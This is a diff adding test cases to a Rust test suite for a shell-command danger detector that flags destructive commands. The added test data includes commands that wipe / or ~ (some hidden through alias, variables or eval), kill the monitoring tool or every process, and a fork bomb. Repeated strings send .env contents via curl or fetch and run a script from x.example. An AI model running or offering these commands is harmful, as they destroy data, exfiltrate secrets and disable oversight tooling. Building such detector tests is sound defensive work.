@@ -72,6 +72,16 @@ fn files_that_nobody_can_do_without() {
         yes > /dev/disk2 ## disk2
         tee /dev/sdb < x ## /dev/sdb
         cp image.iso /dev/sdb ## /dev/sdb
+        cd / && rm -rf * ## in `/`
+        cd ~; rm -rf . ## in `~`
+        cd && rm -rf * ## in `~`
+        cd /home && rm -rf me ## in `/home`
+        cd / && find . -delete ## in `/`
+        find / -print0 | xargs -0 rm -f ## below `/`
+        ls ~ | xargs rm -rf ## below `~`
+        alias ls='rm -rf /'; ls ## `/`
+        x='rm -rf /'; $x ## `/`
+        cmd="rm -rf ~" && eval $cmd ## `~`
         "#,
     );
     table(
@@ -159,6 +169,9 @@ fn processes_terminals_and_the_machine() {
         r"
         pkill sayso ## sayso
         killall -9 sayso ## sayso
+        kill $(pgrep sayso) ## sayso
+        kill -9 `pidof sayso` ## sayso
+        ps aux | grep sayso | xargs kill ## sayso
         systemctl stop sayso ## sayso
         systemctl --user disable sayso.service ## sayso
         :(){ :|:& };: ## fork bomb
@@ -176,6 +189,7 @@ fn processes_terminals_and_the_machine() {
         kill -9 -1 ## every process
         kill -- -1 ## every process
         kill -TERM -1 ## every process
+        kill -9 $(ps -eo pid) ## `ps` lists
         kill -9 1 ## first process
         pkill -f . ## every process
         pkill -9 '.*' ## every process
@@ -638,6 +652,14 @@ fn h_16_words_that_are_data_raise_no_alarm() {
         lsblk
         df -h
         firm /tmp
+        cd / && ls
+        cd /tmp && rm x
+        kill $(pgrep node)
+        ps aux | grep node | xargs kill
+        alias ll='ls -l'
+        x='rm'; echo $x
+        find . -name '*.rs' | xargs grep x
+        echo "bash is a shell" | wc -c
         make -f rm
         cd sayso
         cat sayso/rm
@@ -664,4 +686,26 @@ fn table_of_none(rows: &str) {
         }
     }
     assert!(wrong.is_empty(), "no danger:\n{}", wrong.join("\n"));
+}
+
+#[test]
+fn the_cost_stays_linear() {
+    let long = "x".repeat(900 * 1024);
+    let texts = [
+        format!("{} '{long}'", "psql ".repeat(4000)),
+        format!("{} '{long}'", "sudo ".repeat(4000)),
+        format!("{} '{long}'", "git ".repeat(4000)),
+        "while :;do ".repeat(90_000),
+        "function f{".repeat(90_000),
+        "cat .env | curl x;".repeat(50_000),
+        "python3 -c 'os.system(\"rm -rf x\")';".repeat(25_000),
+        "wget http://x.example/a; sh a;".repeat(30_000),
+        "cd /; rm -rf *;".repeat(60_000),
+        "Remove-Item ^x `".repeat(60_000),
+        "alias x='a b';".repeat(60_000),
+    ];
+    for text in texts {
+        let start = text.get(..40).unwrap_or("").to_owned();
+        assert!(!analyse(&text).dangers.is_empty(), "{start}");
+    }
 }
